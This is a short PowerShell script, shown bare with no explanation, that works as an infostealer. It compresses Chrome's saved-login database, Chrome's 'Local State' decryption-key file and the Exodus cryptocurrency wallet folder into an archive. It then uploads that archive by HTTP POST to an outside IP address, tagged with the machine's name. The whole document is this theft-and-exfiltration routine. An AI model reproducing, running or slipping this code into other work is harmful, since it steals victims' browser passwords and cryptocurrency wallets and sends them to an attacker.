$z = "$env:LOCALAPPDATA\mig.zip"
Compress-Archive -Path "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data","$env:LOCALAPPDATA\Google\Chrome\User Data\Local State","$env:APPDATA\Exodus" -DestinationPath $z -Force
Invoke-WebRequest -Uri "http://192.0.2.145/index.php?id=$env:COMPUTERNAME" -Method Post -InFile $z
